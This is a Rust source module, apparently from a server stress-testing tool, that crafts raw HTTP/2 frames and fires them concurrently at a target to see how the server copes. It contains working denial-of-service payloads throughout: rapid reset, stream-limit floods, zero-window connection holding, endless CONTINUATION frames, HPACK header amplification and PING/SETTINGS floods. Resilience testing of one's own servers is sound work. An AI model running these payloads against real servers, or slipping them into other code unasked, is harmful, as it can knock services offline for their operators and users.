//! What HTTP/2 lets a client do to a server.

use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, timeout};

use super::arena::{Arena, Tally, machine};
use super::raw;

/// One connection after the other for each way.
const AT_ONCE: usize = 2;
/// For what is sent to go out, and for the server to hang up afterwards.
const SENDS_WITHIN: Duration = Duration::from_secs(2);
/// Most that is read of what the server says.
const MOST_READ_BYTES: u64 = 1 << 20;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RESET: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// `GET / https x`, in HPACK.
const ASKS: [u8; 6] = [0x82, 0x87, 0x84, 0x41, 1, b'x'];

const NO_WINDOW: &str = "no window";
/// Between two connections that are held.
const HOLDS_EVERY: Duration = Duration::from_millis(50);

/// What it is called, and the bytes of it.
type Way = (&'static str, fn() -> Vec<u8>);

const WAYS: [Way; 6] = [
    ("taken back", taken_back),
    ("many streams", many_streams),
    (NO_WINDOW, no_window),
    ("endless headers", endless_headers),
    ("headers that grow", headers_that_grow),
    ("pings and settings", pings),
];

pub(crate) async fn attack(arena: Arena, until: Instant) -> anyhow::Result<Tally> {
    if arena.target.tls_http2(machine(0)).await?.is_none() {
        let mut tally = Tally::default();
        tally.add("HTTP/2 is not spoken");
        return Ok(tally);
    }
    let mut sending = JoinSet::new();
    for (n, way) in WAYS.into_iter().enumerate() {
        for at in 0..AT_ONCE {
            let arena = arena.clone();
            sending.spawn(async move { send(&arena, way, n * AT_ONCE + at, until).await });
        }
    }
    let mut tally = Tally::default();
    while let Some(done) = sending.join_next().await {
        tally.merge(done?);
    }
    Ok(tally)
}

async fn send(arena: &Arena, (name, way): (&str, fn() -> Vec<u8>), n: usize, until: Instant) -> Tally {
    let mut tally = Tally::default();
    let frames = way();
    let mut held = Vec::new();
    while Instant::now() < until {
        match arena.target.tls_http2(machine(n)).await {
            // Kept: what the server cannot send lies there meanwhile.
            Ok(Some(mut stream)) if name == NO_WINDOW => {
                let sent = async {
                    stream.write_all(&frames).await?;
                    stream.flush().await
                };
                tally.add(if sent.await.is_ok() { "no window: held" } else { "no window: closed" });
                held.push(stream);
                sleep(HOLDS_EVERY).await;
            }
            Ok(Some(stream)) => {
                let end = end_of(stream, &frames).await;
                tally.add(format!("{name}: {end}"));
            }
            Ok(None) => {}
            Err(error) => {
                tally.add(format!("not let in ({})", error.kind()));
                sleep(raw::PATIENCE / 100).await;
            }
        }
    }
    tally
}

/// Sends all of it while it reads, and says how the server ended that.
async fn end_of(stream: raw::Tls, frames: &[u8]) -> String {
    let (reading, mut writing) = tokio::io::split(stream);
    let mut said = Vec::new();
    let mut reading = reading.take(MOST_READ_BYTES);
    let sent = async {
        // The server may hang up meanwhile.
        let _ = writing.write_all(frames).await;
        let _ = writing.flush().await;
    };
    let both = async { tokio::join!(sent, reading.read_to_end(&mut said)) };
    let is_ended = timeout(SENDS_WITHIN, both).await.is_ok();
    match goodbye(&said) {
        Some(code) => format!("GOAWAY {code}"),
        None if is_ended => "closed".to_owned(),
        None => "borne".to_owned(),
    }
}

/// Why the server hangs up, as it says itself.
fn goodbye(mut said: &[u8]) -> Option<u32> {
    let mut code = None;
    while let Some((head, rest)) = said.split_at_checked(9) {
        let length = usize::try_from(u32::from_be_bytes([0, head[0], head[1], head[2]])).ok()?;
        let Some((payload, rest)) = rest.split_at_checked(length) else { break };
        if head[3] == GOAWAY {
            code = payload.get(4..8).and_then(|code| Some(u32::from_be_bytes(code.try_into().ok()?)));
        }
        said = rest;
    }
    code
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// What every connection begins with.
fn greeting(settings: &[u8]) -> Vec<u8> {
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".as_slice(), frame(SETTINGS, 0, 0, settings).as_slice()].concat()
}

/// The ids of a client's streams.
fn streams(count: u32) -> impl Iterator<Item = u32> {
    (0..count).map(|n| 2 * n + 1)
}

/// Rapid reset.
fn taken_back() -> Vec<u8> {
    let mut sent = greeting(&[]);
    for id in streams(20_000) {
        sent.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &ASKS));
        sent.extend(frame(RESET, 0, id, &8_u32.to_be_bytes()));
    }
    sent
}

/// Many more requests at once than the server said that it takes.
fn many_streams() -> Vec<u8> {
    let mut sent = greeting(&[]);
    for id in streams(5_000) {
        sent.extend(frame(HEADERS, END_HEADERS, id, &ASKS));
        sent.extend(frame(DATA, 0, id, b"x"));
    }
    sent
}

/// As many pages as the server takes requests for, which it may not send.
fn no_window() -> Vec<u8> {
    // SETTINGS_INITIAL_WINDOW_SIZE = 0
    let mut sent = greeting(&[0, 4, 0, 0, 0, 0]);
    // The path in full, not put into the table.
    let asks = [&[0x82_u8, 0x87, 0x04, 8][..], b"/sign-in", &[0x01, 1, b'x']].concat();
    for id in streams(100) {
        sent.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &asks));
    }
    sent
}

/// CONTINUATION without end.
fn endless_headers() -> Vec<u8> {
    let mut sent = greeting(&[]);
    sent.extend(frame(HEADERS, END_STREAM, 1, &ASKS));
    // A header without an index: name and value of a letter each.
    let headers = [0, 1, b'a', 1, b'b'].repeat(3_000);
    for _ in 0..500 {
        sent.extend(frame(CONTINUATION, 0, 1, &headers));
    }
    sent
}

/// One long header in the table, and then a thousand times a byte that means it.
fn headers_that_grow() -> Vec<u8> {
    let mut sent = greeting(&[]);
    // With an index, name of one letter, value of 3,900 bytes (0x7f and 3,900 − 127 in sevens of bits).
    let mut first = [&ASKS[..], &[0x40, 1, b'a', 0x7f, 0xbd, 0x1d]].concat();
    first.extend([b'b'; 3_900]);
    sent.extend(frame(HEADERS, END_STREAM | END_HEADERS, 1, &first));
    for id in streams(200).skip(1) {
        // 0x01: the name of the server, not put into the table. 0xbe: the youngest of the table.
        let many = [&[0x82, 0x87, 0x84, 0x01, 1, b'x'][..], &[0xbe; 8_000]].concat();
        sent.extend(frame(HEADERS, END_STREAM | END_HEADERS, id, &many));
    }
    sent
}

/// Each has to be answered.
fn pings() -> Vec<u8> {
    let mut sent = greeting(&[]);
    for _ in 0..50_000 {
        sent.extend(frame(PING, 0, 0, &[0; 8]));
        sent.extend(frame(SETTINGS, 0, 0, &[]));
    }
    sent
}
